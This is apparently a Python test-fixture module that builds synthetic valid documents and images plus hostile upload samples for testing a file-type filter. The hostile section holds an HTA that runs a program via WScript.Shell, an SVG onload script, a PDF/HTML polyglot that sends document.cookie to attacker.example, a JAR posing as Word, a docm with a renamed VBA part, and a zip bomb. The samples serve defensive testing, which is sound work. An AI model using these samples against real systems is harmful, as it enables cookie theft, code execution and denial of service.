"""Real, minimal files of each type the hub keeps, and the hostile ones a probe sent: built here, in
memory, so tests read nothing outside the repository and every byte is synthetic."""

from __future__ import annotations

import functools
import io
import struct
import zipfile
import zlib

# -- kept types --------------------------------------------------------------------------------------


def pdf(text: str = "Chronology") -> bytes:
    """A one-page PDF with a correct cross-reference table (pypdf reads it strictly)."""
    content = f"BT /F1 12 Tf 72 720 Td ({text}) Tj ET".encode()
    objects = [
        b"<< /Type /Catalog /Pages 2 0 R >>",
        b"<< /Type /Pages /Kids [3 0 R] /Count 1 >>",
        b"<< /Type /Page /Parent 2 0 R /MediaBox [0 0 612 792] /Contents 4 0 R"
        b" /Resources << /Font << /F1 5 0 R >> >> >>",
        b"<< /Length %d >>\nstream\n" % len(content) + content + b"\nendstream",
        b"<< /Type /Font /Subtype /Type1 /BaseFont /Helvetica >>",
    ]
    out = bytearray(b"%PDF-1.7\n%\xe2\xe3\xcf\xd3\n")
    offsets = []
    for number, body in enumerate(objects, start=1):
        offsets.append(len(out))
        out += b"%d 0 obj\n" % number + body + b"\nendobj\n"
    xref = len(out)
    out += b"xref\n0 %d\n0000000000 65535 f \n" % (len(objects) + 1)
    out += b"".join(b"%010d 00000 n \n" % offset for offset in offsets)
    out += b"trailer\n<< /Size %d /Root 1 0 R >>\nstartxref\n%d\n%%%%EOF\n" % (len(objects) + 1, xref)
    return bytes(out)


def _chunk(kind: bytes, body: bytes) -> bytes:
    return struct.pack(">I", len(body)) + kind + body + struct.pack(">I", zlib.crc32(kind + body))


def png() -> bytes:
    """A 1x1 grey PNG."""
    header = struct.pack(">IIBBBBB", 1, 1, 8, 0, 0, 0, 0)
    return (
        b"\x89PNG\r\n\x1a\n"
        + _chunk(b"IHDR", header)
        + _chunk(b"IDAT", zlib.compress(b"\x00\x80"))
        + _chunk(b"IEND", b"")
    )


def jpeg() -> bytes:
    """An 8x8 grey baseline JPEG: one block whose DC difference and every AC coefficient are 0,
    with one-symbol Huffman tables (code `0`), so its scan is the bits `00` padded with ones."""
    quant = b"\xff\xdb" + struct.pack(">H", 67) + b"\x00" + b"\x01" * 64
    frame = b"\xff\xc0" + struct.pack(">HBHHB", 11, 8, 8, 8, 1) + b"\x01\x11\x00"
    counts = b"\x01" + b"\x00" * 15
    dc = b"\xff\xc4" + struct.pack(">H", 20) + b"\x00" + counts + b"\x00"
    ac = b"\xff\xc4" + struct.pack(">H", 20) + b"\x10" + counts + b"\x00"
    scan = b"\xff\xda" + struct.pack(">HB", 8, 1) + b"\x01\x00" + b"\x00\x3f\x00"
    app0 = b"\xff\xe0" + struct.pack(">H", 16) + b"JFIF\x00\x01\x01\x00\x00\x01\x00\x01\x00\x00"
    return b"\xff\xd8" + app0 + quant + frame + dc + ac + scan + b"\x3f" + b"\xff\xd9"


TEXT = "Plain notes: café, seen on 3 March.\r\nNext visit booked.\n".encode()

WORD_MAIN = "application/vnd.openxmlformats-officedocument.wordprocessingml.document.main+xml"
CONTENT_TYPES_NS = "http://schemas.openxmlformats.org/package/2006/content-types"
RELS_NS = "http://schemas.openxmlformats.org/package/2006/relationships"
OFFICE_DOCUMENT = "http://schemas.openxmlformats.org/officeDocument/2006/relationships/officeDocument"
DOCUMENT_XML = (
    '<?xml version="1.0" encoding="UTF-8" standalone="yes"?>'
    '<w:document xmlns:w="http://schemas.openxmlformats.org/wordprocessingml/2006/main">'
    "<w:body><w:p><w:r><w:t>Notes from the visit</w:t></w:r></w:p></w:body></w:document>"
)


def docx(
    *,
    main_type: str = WORD_MAIN,
    overrides: dict[str, str] | None = None,
    defaults: dict[str, str] | None = None,
    document_rels: list[tuple[str, str, str | None]] | None = None,
    parts: dict[str, bytes] | None = None,
) -> bytes:
    """A Word package as Word writes one: content types, package relationships, the main part,
    core properties; `document_rels` are (type, target, target mode) of word/document.xml."""
    default_types = {
        "rels": "application/vnd.openxmlformats-package.relationships+xml",
        "xml": "application/xml",
        **(defaults or {}),
    }
    override_types = {
        "/word/document.xml": main_type,
        "/docProps/core.xml": "application/vnd.openxmlformats-package.core-properties+xml",
        **(overrides or {}),
    }
    types = (
        f'<?xml version="1.0" encoding="UTF-8" standalone="yes"?><Types xmlns="{CONTENT_TYPES_NS}">'
        + "".join(f'<Default Extension="{e}" ContentType="{t}"/>' for e, t in default_types.items())
        + "".join(f'<Override PartName="{p}" ContentType="{t}"/>' for p, t in override_types.items())
        + "</Types>"
    )
    package_rels = (
        f'<?xml version="1.0" encoding="UTF-8" standalone="yes"?><Relationships xmlns="{RELS_NS}">'
        f'<Relationship Id="rId1" Type="{OFFICE_DOCUMENT}" Target="word/document.xml"/>'
        '<Relationship Id="rId2" Type="http://schemas.openxmlformats.org/package/2006/relationships/metadata/core-properties" Target="docProps/core.xml"/>'
        "</Relationships>"
    )
    core = (
        '<?xml version="1.0" encoding="UTF-8" standalone="yes"?>'
        '<cp:coreProperties xmlns:cp="http://schemas.openxmlformats.org/package/2006/metadata/core-properties"'
        ' xmlns:dc="http://purl.org/dc/elements/1.1/"><dc:title>Visit notes</dc:title></cp:coreProperties>'
    )
    buffer = io.BytesIO()
    with zipfile.ZipFile(buffer, "w", zipfile.ZIP_DEFLATED) as archive:
        archive.writestr("[Content_Types].xml", types)
        archive.writestr("_rels/.rels", package_rels)
        archive.writestr("docProps/core.xml", core)
        archive.writestr("word/document.xml", DOCUMENT_XML)
        if document_rels:
            archive.writestr(
                "word/_rels/document.xml.rels",
                f'<?xml version="1.0" encoding="UTF-8" standalone="yes"?><Relationships xmlns="{RELS_NS}">'
                + "".join(
                    f'<Relationship Id="rId{n}" Type="{kind}" Target="{target}"'
                    + (f' TargetMode="{mode}"' if mode else "")
                    + "/>"
                    for n, (kind, target, mode) in enumerate(document_rels, start=10)
                )
                + "</Relationships>",
            )
        for name, data in (parts or {}).items():
            archive.writestr(name, data)
    return buffer.getvalue()


# -- what the probe sent ------------------------------------------------------------------------------

HTA = (
    b'<html><head><title>Referral notes</title><hta:application id="notes" windowstate="minimize"/>\r\n'
    b'<script language="VBScript">CreateObject("WScript.Shell").Run "calc.exe" : window.close</script>\r\n'
    b"</head><body>Referral notes</body></html>\r\n"
)
SVG_ONLOAD = (
    b'<svg xmlns="http://www.w3.org/2000/svg" onload="alert(document.domain)"><rect width="9" height="9"/></svg>'
)
# `%PDF-` so a magic-byte check says PDF; a browser given it as scan.html runs the script.
PDF_HTML_POLYGLOT = (
    b"%PDF-1.4\n<html><body><script>fetch('https://attacker.example/?c='+document.cookie)</script></body></html>\n"
    b"1 0 obj\n<< /Type /Catalog >>\nendobj\ntrailer\n<< /Root 1 0 R >>\n%%EOF\n"
)
CFB = b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + b"\x00" * 504  # an OLE compound file's header: how vbaProject.bin starts
VBA_PROJECT = "http://schemas.microsoft.com/office/2006/relationships/vbaProject"
VBA_TYPE = "application/vnd.ms-office.vbaProject"
MACRO_MAIN = "application/vnd.ms-word.document.macroEnabled.main+xml"


def jar_with_word_entry() -> bytes:
    """A Java archive (a runnable tools.jar) that also holds word/ so a `word/` check calls it Word."""
    buffer = io.BytesIO()
    with zipfile.ZipFile(buffer, "w", zipfile.ZIP_DEFLATED) as archive:
        archive.writestr("META-INF/MANIFEST.MF", "Manifest-Version: 1.0\r\nMain-Class: Tool\r\n\r\n")
        archive.writestr("Tool.class", b"\xca\xfe\xba\xbe\x00\x00\x00\x34" + b"\x00" * 32)
        archive.writestr("word/document.xml", DOCUMENT_XML)
    return buffer.getvalue()


def docm_with_renamed_vba() -> bytes:
    """A macro document as the probe made it: the VBA part renamed word/notes.dat and reached only
    through word/document.xml's relationships; no part is called vbaProject.bin."""
    return docx(
        main_type=MACRO_MAIN,
        overrides={"/word/notes.dat": VBA_TYPE},
        document_rels=[(VBA_PROJECT, "notes.dat", None)],
        parts={"word/notes.dat": CFB},
    )


@functools.cache
def deflate_bomb(unpacked_mb: int = 200) -> bytes:
    """A Word-shaped zip whose word/document.xml unpacks to `unpacked_mb` MB of zeros (~1/1000 of that on disk)."""
    buffer = io.BytesIO()
    zeros = b"\x00" * (1024 * 1024)
    with zipfile.ZipFile(buffer, "w", zipfile.ZIP_DEFLATED) as archive:
        archive.writestr("[Content_Types].xml", docx_types_only())
        with archive.open("word/document.xml", "w", force_zip64=True) as entry:
            for _ in range(unpacked_mb):
                entry.write(zeros)
    return buffer.getvalue()


def docx_types_only() -> bytes:
    with zipfile.ZipFile(io.BytesIO(docx())) as archive:
        return archive.read("[Content_Types].xml")
